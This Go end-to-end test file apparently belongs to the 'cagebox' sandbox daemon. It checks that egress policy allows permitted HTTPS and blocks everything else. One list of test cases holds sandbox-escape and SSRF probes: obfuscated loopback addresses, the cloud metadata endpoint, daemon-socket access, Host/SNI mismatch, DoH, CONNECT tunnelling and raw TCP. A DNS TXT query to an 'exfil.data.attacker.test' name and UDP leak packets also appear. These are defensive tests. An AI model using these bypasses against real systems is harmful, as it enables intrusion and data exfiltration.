package e2e

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cagebox/cagebox/api"
	"github.com/cagebox/cagebox/internal/testpki"
)

// upstream is a real HTTPS server on loopback with a CA made by the test,
// standing in for public hosts through the daemon's --resolve overrides.
type upstream struct {
	srv    *httptest.Server
	caFile string
	port   int

	// validate, when set, must accept a request (else 403).
	validate func(*http.Request) error
	// reflect: the answer also echoes the credentials the request carried
	// (Authorization, X-Signature, query), as debug endpoints do.
	reflect bool

	// mu guards seen.
	mu   sync.Mutex
	seen []string // "METHOD host path proto"
}

func (u *upstream) requests() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]string(nil), u.seen...)
}

func newUpstream(t *testing.T, names ...string) *upstream {
	t.Helper()
	pki, err := testpki.New(time.Hour, names...)
	if err != nil {
		t.Fatal(err)
	}
	u := &upstream{}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		u.seen = append(u.seen, fmt.Sprintf("%s %s %s %s auth=%s q=%s body=%s sig=%s", r.Method, r.Host, r.URL.Path, r.Proto, r.Header.Get("Authorization"), r.URL.RawQuery, body, r.Header.Get("X-Signature")))
		u.mu.Unlock()
		r.Body = io.NopCloser(bytes.NewReader(body))
		if u.validate != nil {
			if err := u.validate(r); err != nil {
				http.Error(w, "signature rejected: "+err.Error(), 403)
				return
			}
		}
		if r.Header.Get("X-Forwarded-For") != "" {
			http.Error(w, "proxy leaked X-Forwarded-For", 500)
			return
		}
		fmt.Fprintf(w, "hello from upstream %s %s\n", r.Host, r.URL.Path)
		if u.reflect {
			fmt.Fprintf(w, "auth=%s\nx-signature=%s\nquery=%s\n", r.Header.Get("Authorization"), r.Header.Get("X-Signature"), r.URL.RawQuery)
		}
	}))
	srv.EnableHTTP2 = true
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{pki.Leaf}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	u.srv = srv
	u.port = srv.Listener.Addr().(*net.TCPAddr).Port
	u.caFile = filepath.Join(t.TempDir(), "upstream-ca.pem")
	if err := os.WriteFile(u.caFile, pki.CAPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	return u
}

func (u *upstream) daemonArgs(names ...string) []string {
	args := []string{"--upstream-ca", u.caFile}
	for _, n := range names {
		args = append(args, "--resolve", fmt.Sprintf("%s:443=127.0.0.1:%d", n, u.port))
	}
	return args
}

// TestEgress: the allowed name works over HTTPS (HTTP/1.1 and HTTP/2); a
// disallowed one gets the 403 naming the rule; and every way around the
// gateway is tried from inside the sandbox and fails.
func TestEgress(t *testing.T) {
	e := newDebianEnv(t)
	up := newUpstream(t, "api.example.test", "other.example.test")
	apiAddr := freePort(t)
	e.startDaemon(append(up.daemonArgs("api.example.test", "other.example.test"), "--listen", apiAddr)...)
	ctx := context.Background()

	pol := `{"version":1,"rules":[{"name":"no-other","host":"other.example.test","action":"deny"}]}`
	sb, err := e.client().Create(ctx, &api.CreateSandboxRequest{Policy: json.RawMessage(pol), Allow: []string{"api.example.test"}})
	if err != nil {
		t.Fatal(err)
	}
	if sb.Network == nil {
		t.Fatalf("sandbox has no network: %+v", sb)
	}
	if sb.Runtime != e2eRuntime() {
		t.Fatalf("sandbox runs on %s, want %s (CAGEBOX_E2E_RUNTIME)", sb.Runtime, e2eRuntime())
	}
	gw := sb.Network.Gateway
	sh := func(script string) result {
		t.Helper()
		return e.cli("", "exec", sb.ID, "--", "sh", "-c", script)
	}

	// Allowed: HTTPS with HTTP/1.1 and HTTP/2.
	r := sh("curl -sS --http1.1 https://api.example.test/h1")
	if r.code != 0 || r.stdout != "hello from upstream api.example.test /h1\n" {
		t.Fatalf("allowed HTTPS/1.1: %+v", r)
	}
	r = sh("curl -sS --http2 -o /dev/null -w '%{http_version}' https://api.example.test/h2")
	if r.code != 0 || r.stdout != "2" {
		t.Fatalf("allowed HTTPS/2: %+v", r)
	}
	// Python's TLS stack trusts the sandbox CA too (SSL_CERT_FILE).
	r = sh(`python3 -c "import urllib.request; print(urllib.request.urlopen('https://api.example.test/py').read().decode().strip())"`)
	if r.code != 0 || !strings.Contains(r.stdout, "/py") {
		t.Fatalf("python https: %+v", r)
	}
	// Disallowed name: a 403 with a JSON body naming the rule and the host.
	r = sh("curl -sS -w '\\n%{http_code}' https://other.example.test/x")
	if !strings.HasSuffix(r.stdout, "\n403") || !strings.Contains(r.stdout, `"no-other"`) || !strings.Contains(r.stdout, "other.example.test") {
		t.Fatalf("disallowed host: %+v", r)
	}

	before := len(up.requests())
	attacks := []struct {
		name, script string
	}{
		{"loopback literal", fmt.Sprintf("curl -sS -m 5 http://127.0.0.1:%d/", up.port)},
		{"loopback https literal", fmt.Sprintf("curl -sSk -m 5 https://127.0.0.1:%d/", up.port)},
		{"decimal loopback", fmt.Sprintf("curl -sS -m 5 http://2130706433:%d/", up.port)},
		{"octal loopback", fmt.Sprintf("curl -sS -m 5 http://0177.0.0.1:%d/", up.port)},
		{"ipv4-mapped ipv6 loopback", fmt.Sprintf("curl -sS -m 5 'http://[::ffff:127.0.0.1]:%d/'", up.port)},
		{"metadata", "curl -sS -m 5 http://169.254.169.254/latest/meta-data/"},
		{"private", "curl -sS -m 5 http://10.0.0.1/"},
		{"gateway ssh", "curl -sS -m 5 http://" + gw + ":22/"},
		{"gateway dns over tcp as http", "curl -sS -m 5 http://" + gw + ":15053/"},
		{"daemon api via gateway", "curl -sS -m 5 http://" + gw + ":" + portOf(apiAddr) + "/v1/health"},
		{"daemon api via loopback", "curl -sS -m 5 http://" + apiAddr + "/v1/health"},
		{"daemon unix socket", "curl -sS -m 5 --unix-socket " + filepath.Join(e.home, "cagebox.sock") + " http://x/v1/health"},
		{"gateway proxy port direct", "curl -sS -m 5 http://" + gw + ":15001/"},
		{"host/sni mismatch", "curl -sS -m 5 -H 'Host: other.example.test' https://api.example.test/front"},
		{"doh", "printf 'q' | curl -sS -m 5 -H 'Content-Type: application/dns-message' --data-binary @- https://api.example.test/dns-query"},
		{"connect", "curl -sS -m 5 -p -x http://api.example.test:80 https://other.example.test/"},
		{"raw tcp other port", `python3 -c "
import socket
s = socket.create_connection(('api.example.test', 2222), timeout=5)
s.sendall(b'hello\n')
if s.recv(100): print('RAW-DATA')"; exit 0`},
	}
	for _, a := range attacks {
		r := sh(a.script)
		denied := strings.Contains(r.stdout, "denied by cagebox") || (a.name == "raw tcp other port" && !strings.Contains(r.stdout, "RAW-DATA"))
		if r.code == 0 && !denied {
			t.Errorf("%s: got through: %+v", a.name, r)
		}
		if strings.Contains(r.stdout, "hello from upstream") || strings.Contains(r.stdout, `"version"`) {
			t.Errorf("%s: reached the target: %+v", a.name, r)
		}
	}
	if got := up.requests(); len(got) != before {
		t.Errorf("upstream saw requests from attacks: %v", got[before:])
	}

	// DNS: only A/AAAA for allowed names; TXT refused, others NXDOMAIN.
	r = sh(`python3 - <<'PY'
import socket, struct
def q(name, qtype):
    ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
    pkt = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
    for part in name.split('.'):
        pkt += bytes([len(part)]) + part.encode()
    pkt += b'\x00' + struct.pack('>HH', qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(pkt, (ns, 53))
    resp = s.recv(4096)
    return resp[3] & 0x0f, struct.unpack('>H', resp[6:8])[0]
print(q('api.example.test', 1), q('api.example.test', 16), q('other.example.test', 1), q('unmentioned.example.test', 1), q('exfil.data.attacker.test', 16))
PY`)
	// A allowed: answer; TXT: refused; A of a name only a deny rule names:
	// answered (so the proxy can say which rule); A of a name no rule
	// mentions: NXDOMAIN; TXT of anything: refused.
	if r.stdout != "(0, 1) (5, 0) (0, 1) (3, 0) (5, 0)\n" {
		t.Errorf("dns answers (rcode, answers): %+v", r)
	}

	// UDP to anything but DNS goes nowhere: a host listener on the gateway
	// address receives nothing.
	uc, err := net.ListenPacket("udp4", gw+":0")
	if err != nil {
		t.Fatal(err)
	}
	defer uc.Close()
	uport := uc.LocalAddr().(*net.UDPAddr).Port
	sh(fmt.Sprintf(`python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for dst in [('%s', %d), ('8.8.8.8', 123), ('10.0.0.1', 9999)]:
    s.sendto(b'leak', dst)"`, gw, uport))
	uc.SetReadDeadline(time.Now().Add(time.Second))
	if n, from, err := uc.ReadFrom(make([]byte, 100)); err == nil {
		t.Errorf("UDP from the sandbox reached the host: %d bytes from %v", n, from)
	}

	// Another sandbox's address: its server sees nothing.
	other, err := e.client().Create(ctx, &api.CreateSandboxRequest{})
	if err != nil {
		t.Fatal(err)
	}
	e.cli("", "exec", other.ID, "--", "sh", "-c", "cd /tmp && (python3 -m http.server 8080 > /tmp/http.log 2>&1 &) ; sleep 1")
	r = sh("curl -sS -m 5 http://" + other.Network.Address + ":8080/")
	if r.code == 0 && !strings.Contains(r.stdout, "denied by cagebox") {
		t.Errorf("reached another sandbox: %+v", r)
	}
	if r := e.cli("", "exec", other.ID, "--", "cat", "/tmp/http.log"); strings.Contains(r.stdout, "GET") {
		t.Errorf("another sandbox's server got a request: %s", r.stdout)
	}

	// A daemon restart (SIGKILL) keeps the sandbox's gateway: same CA, same
	// policy, and the same synthetic address for a name the guest resolved
	// before (a cached answer keeps working).
	r = sh("getent hosts api.example.test | cut -d' ' -f1")
	oldIP := strings.TrimSpace(r.stdout)
	if !strings.HasPrefix(oldIP, "198.18.") {
		// Say why: what the resolver saw and answered, and how the
		// guest's resolver fares right after.
		diag := sh("cat /etc/resolv.conf; getent ahostsv4 api.example.test; echo getent=$?")
		var dnsLog []string
		if evs, err := e.client().Events(ctx, sb.ID, 0); err == nil {
			for _, ev := range evs {
				if ev.Kind == "dns.query" {
					dnsLog = append(dnsLog, fmt.Sprintf("%s %s", ev.Time.Format("15:04:05.000"), ev.Data))
				}
			}
		}
		if len(dnsLog) > 20 {
			dnsLog = dnsLog[len(dnsLog)-20:]
		}
		t.Fatalf("synthetic address: %+v\nthen: %+v\nlast dns.query events:\n%s", r, diag, strings.Join(dnsLog, "\n"))
	}
	e.stopDaemon(9)
	e.startDaemon(append(up.daemonArgs("api.example.test", "other.example.test"), "--listen", apiAddr)...)
	r = sh("curl -sS --resolve api.example.test:443:" + oldIP + " https://api.example.test/after-restart")
	if r.code != 0 || !strings.Contains(r.stdout, "/after-restart") {
		t.Fatalf("after a daemon restart, the cached synthetic address: %+v", r)
	}
	r = sh("curl -sS -w '\\n%{http_code}' https://other.example.test/x")
	if !strings.HasSuffix(r.stdout, "\n403") {
		t.Fatalf("policy after restart: %+v", r)
	}

	// Audit: decisions are events.
	evs, err := e.client().Events(ctx, sb.ID, 0)
	if err != nil {
		t.Fatal(err)
	}
	var allow, deny, dns int
	for _, ev := range evs {
		switch ev.Kind {
		case "egress.allow":
			allow++
		case "egress.deny":
			deny++
		case "dns.query":
			dns++
		}
	}
	if allow < 3 || deny < 5 || dns < 4 {
		b, _ := json.MarshalIndent(evs, "", " ")
		t.Errorf("events: %d allow, %d deny, %d dns:\n%s", allow, deny, dns, b)
	}
}

func portOf(addr string) string {
	_, p, _ := net.SplitHostPort(addr)
	return p
}

// TestNetworkCleanup: rm and daemon shutdown leave no namespaces, links or
// rules; a restarted daemon re-attaches a running sandbox's network.
func TestNetworkCleanup(t *testing.T) {
	e := newEnv(t)
	e.startDaemon()
	ctx := context.Background()
	a, err := e.client().Create(ctx, &api.CreateSandboxRequest{})
	if err != nil {
		t.Fatal(err)
	}
	b, err := e.client().Create(ctx, &api.CreateSandboxRequest{})
	if err != nil {
		t.Fatal(err)
	}
	if n := countLinks(t); n != 2 {
		t.Fatalf("%d links for 2 sandboxes", n)
	}
	if err := e.client().Remove(ctx, b.ID); err != nil {
		t.Fatal(err)
	}
	if n := countLinks(t); n != 1 {
		t.Fatalf("%d links after rm of one of 2", n)
	}
	e.stopDaemon(9) // SIGKILL: the table stays until the next start
	e.startDaemon()
	if n := countLinks(t); n != 1 {
		t.Fatalf("%d links after restart", n)
	}
	got, err := e.client().Get(ctx, a.ID)
	if err != nil || got.Status != "running" || got.Network == nil {
		t.Fatalf("after restart: %+v %v", got, err)
	}
	if err := e.client().Remove(ctx, a.ID); err != nil {
		t.Fatal(err)
	}
	e.stopDaemon(15)
	if n := countLinks(t); n != 0 {
		t.Fatalf("%d links left after rm and shutdown", n)
	}
	if out, _ := exec.Command("nft", "list", "table", "inet", os.Getenv("CAGEBOX_NET_TABLE")).CombinedOutput(); !strings.Contains(string(out), "No such file") {
		t.Fatalf("table left after shutdown: %s", out)
	}
	ents, _ := os.ReadDir("/run/netns")
	for _, en := range ents {
		if strings.HasPrefix(en.Name(), "cbe-") {
			t.Errorf("netns %s left", en.Name())
		}
	}
}

func countLinks(t *testing.T) int {
	out, err := exec.Command("ip", "-o", "link", "show").CombinedOutput()
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, l := range strings.Split(string(out), "\n") {
		f := strings.Fields(l)
		if len(f) > 1 && strings.HasPrefix(f[1], os.Getenv("CAGEBOX_NET_IFPREFIX")) {
			n++
		}
	}
	return n
}
